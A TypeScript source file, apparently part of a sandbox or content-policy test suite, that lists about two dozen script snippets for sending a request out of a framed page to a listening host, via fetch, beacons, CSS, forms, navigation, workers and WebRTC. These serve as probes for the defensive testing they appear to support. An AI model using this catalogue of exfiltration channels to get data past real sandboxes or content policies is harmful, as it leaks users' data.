import type { ListeningPost } from './listening-post.ts';

/** A way out of a frame: script that takes it, and resolves or throws when it did what it could. */
export interface WayOut {
  readonly name: string;
  readonly script: string;
}

/** Everything that could carry a word out of a view over the network. Each is heard at the post when nothing forbids it. */
export function waysOut({
  origin,
  udpPort,
}: Pick<ListeningPost, 'origin' | 'udpPort'>): readonly WayOut[] {
  const http = `http://${origin}`;
  const element = (name: string, set: string): string =>
    `const made = document.createElement('${name}'); ${set}; document.body.append(made);`;
  return [
    { name: 'fetch', script: `await fetch('${http}/fetch');` },
    {
      name: 'fetch without an answer',
      script: `await fetch('${http}/opaque', { mode: 'no-cors', keepalive: true });`,
    },
    {
      name: 'XMLHttpRequest',
      script: `const call = new XMLHttpRequest(); call.open('GET', '${http}/xhr'); call.send();`,
    },
    { name: 'beacon', script: `navigator.sendBeacon('${http}/beacon', 'x');` },
    { name: 'WebSocket', script: `new WebSocket('ws://${origin}/socket');` },
    { name: 'EventSource', script: `new EventSource('${http}/events');` },
    { name: 'image', script: `new Image().src = '${http}/image';` },
    {
      name: 'style sheet',
      script: element('link', `made.rel = 'stylesheet'; made.href = '${http}/sheet'`),
    },
    {
      name: 'style',
      script: element('style', `made.textContent = 'body { background: url(${http}/background) }'`),
    },
    {
      name: 'style property',
      script: `document.body.style.backgroundImage = 'url(${http}/property)';`,
    },
    { name: 'font', script: `await new FontFace('x', 'url(${http}/font)').load();` },
    { name: 'script', script: element('script', `made.src = '${http}/script'`) },
    { name: 'module', script: `await import('${http}/module');` },
    { name: 'media', script: element('video', `made.src = '${http}/media'`) },
    { name: 'object', script: element('object', `made.data = '${http}/object'`) },
    { name: 'frame', script: element('iframe', `made.src = '${http}/frame'`) },
    {
      name: 'form',
      script: `${element('form', `made.action = '${http}/form'; made.method = 'post'`)} made.submit();`,
    },
    {
      name: 'worker',
      script: `new Worker(URL.createObjectURL(new Blob(["fetch('${http}/worker')"])));`,
    },
    { name: 'popup', script: `open('${http}/popup');` },
    {
      name: 'link in a new window',
      script: `${element('a', `made.href = '${http}/anchor'; made.target = '_blank'`)} made.click();`,
    },
    { name: 'going elsewhere', script: `location.href = '${http}/self';` },
    {
      name: 'refresh',
      script: element('meta', `made.httpEquiv = 'refresh'; made.content = '0;url=${http}/refresh'`),
    },
    { name: 'leading the page elsewhere', script: `top.location.href = '${http}/top';` },
    {
      name: 'WebRTC',
      script: `const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
        call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());`,
    },
    {
      name: 'WebRTC of a frame’s own',
      script: `${element('iframe', `made.srcdoc = '<p></p>'`)}
        const call = new made.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
        call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());`,
    },
    {
      name: 'script in a frame’s own document',
      script: element(
        'iframe',
        `made.srcdoc = '<script>new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] }).createDataChannel("x"); fetch("${http}/srcdoc")<\\/script>'`,
      ),
    },
  ];
}
